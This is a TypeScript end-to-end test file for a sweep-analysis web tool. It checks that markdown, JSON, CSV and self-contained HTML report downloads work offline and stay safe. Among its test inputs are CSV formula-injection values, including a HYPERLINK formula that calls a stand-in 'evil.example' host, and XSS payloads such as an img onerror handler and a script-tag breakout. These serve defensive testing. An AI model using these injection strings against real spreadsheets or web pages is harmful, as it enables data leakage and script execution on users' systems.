/**
 * The Report cell's downloads through the real UI: markdown, JSON, findings CSV, and the
 * self-contained HTML report, opened from file:// with no network.
 */
import { readFile } from 'node:fs/promises';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { hostileSweepCsv } from '../../src/lib/fixtures/hostile';
import { download, upload, useHarness, waitForFindings } from './harness';
import { openOffline, useDownloadDir } from './downloads';

const saveDownload = useDownloadDir('hpi-export-');

/** Waits until every figure host of the report holds a drawn plotly figure. */
async function waitForPlots(page: Page): Promise<{ hosts: number; drawn: number }> {
  await page.waitForFunction(
    () => {
      const hosts = document.querySelectorAll('div.plot').length;
      return hosts > 0 && document.querySelectorAll('.js-plotly-plot .main-svg').length > 0;
    },
    undefined,
    { timeout: 30_000 },
  );
  // Each figure draws one or more .main-svg layers: count figures, not layers.
  return page.evaluate(() => ({
    hosts: document.querySelectorAll('div.plot').length,
    drawn: document.querySelectorAll('div.plot.js-plotly-plot:has(.main-svg)').length,
  }));
}

describe('exports from the Report cell', () => {
  const h = useHarness();

  it('downloads markdown, JSON and an HTML report that draws its figures offline', async () => {
    const page = await h.open();
    await page.click('[data-testid="example-planted"]');
    const found = await waitForFindings(page);

    const md = await download(page, 'download-md');
    expect(md.name).toMatch(/\.md$/);
    expect(md.text).toContain('## Issue breakdown');

    const json = await download(page, 'download-json');
    const summary = JSON.parse(json.text) as { findings: { detector: string }[] };
    expect(summary.findings.length).toBeGreaterThanOrEqual(found.length);

    const file = await saveDownload(page, 'download-html');
    expect(file).toMatch(/\.html$/);
    const text = await readFile(file, 'utf8');
    const figureCells = (text.match(/<figure class="figure/g) ?? []).length;
    expect(figureCells).toBeGreaterThanOrEqual(2);
    // The notebook's figure cells (mounted before the Report cell, which comes last).
    expect(await page.locator('[data-testid="figure"]').count()).toBe(figureCells);

    const report = await openOffline(h, file);
    try {
      const { hosts, drawn } = await waitForPlots(report.page);
      expect(drawn).toBe(hosts);
      // Every figure cell drew (none of the planted sweep's figures is empty).
      expect(drawn).toBe(figureCells);
      expect(await report.page.locator('section#findings article.finding').count()).toBeGreaterThan(
        0,
      );
      expect(await report.page.title()).toContain('planted-sweep.csv');
      expect(report.problems).toEqual([]);
      expect(report.requests).toEqual([]);
    } finally {
      await report.close();
    }
  });

  it('writes a findings CSV whose formula-like ids are neutralised', async () => {
    const page = await h.open();
    const csv = [
      'trial_id,status,lr,train_loss,val_loss,epochs',
      '"=HYPERLINK(""http://evil.example/""&A1,""x"")",failed,0.01,NaN,NaN,3',
      '@SUM(A1),failed,0.02,NaN,NaN,3',
      '-7,completed,0.001,0.15,0.80,20',
      'ok-1,completed,0.002,0.30,0.33,20',
      'ok-2,completed,0.003,0.31,0.34,20',
      'ok-3,completed,0.004,0.29,0.31,20',
      '',
    ].join('\n');
    await upload(page, { name: 'formulas.csv', content: csv });
    await waitForFindings(page);
    const out = await download(page, 'download-csv');
    expect(out.name).toBe('formulas-findings.csv');
    const rows = Papa.parse<Record<string, string>>(out.text.replace(/^\uFEFF/, ''), {
      header: true,
      delimiter: ',',
      skipEmptyLines: true,
    });
    expect(rows.errors).toEqual([]);
    expect(rows.meta.fields?.slice(0, 6)).toEqual([
      'finding_id',
      'detector',
      'severity',
      'title',
      'metric',
      'run_id',
    ]);
    const ids = new Set(rows.data.map((r) => r.run_id));
    expect(ids).toContain(`'=HYPERLINK("http://evil.example/"&A1,"x")`);
    expect(ids).toContain("'@SUM(A1)");
    for (const row of rows.data) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);
    }
  });

  it('a hostile sweep gives an HTML report that runs none of its strings', async () => {
    const page = await h.open();
    const payloadImg = '<img src=x onerror="window.__pwned=1">';
    const payloadScript = '</script><script>window.__pwned=2</script>';
    const extra = [
      `"${payloadImg.replace(/"/g, '""')}",failed,x,1,x,0.1,NaN`,
      `${payloadScript},failed,x,1,x,0.1,NaN`,
    ].join('\n');
    await upload(page, { name: '<b>hostile</b>.csv', content: hostileSweepCsv() + extra + '\n' });
    await waitForFindings(page);
    const file = await saveDownload(page, 'download-html');
    const text = await readFile(file, 'utf8');
    expect(text).not.toContain(payloadImg);

    const report = await openOffline(h, file, 'window.__pwned = undefined;');
    try {
      await waitForPlots(report.page);
      await report.page.waitForTimeout(300);
      expect(await report.page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBe(
        undefined,
      );
      expect(await report.page.locator('img[src="x"]').count()).toBe(0);
      expect(await report.page.locator('[onerror]').count()).toBe(0);
      const body = await report.page.locator('body').innerText();
      expect(body).toContain('<script>alert(1)</script>');
      expect(report.problems).toEqual([]);
      expect(report.requests).toEqual([]);
    } finally {
      await report.close();
    }
  });
});
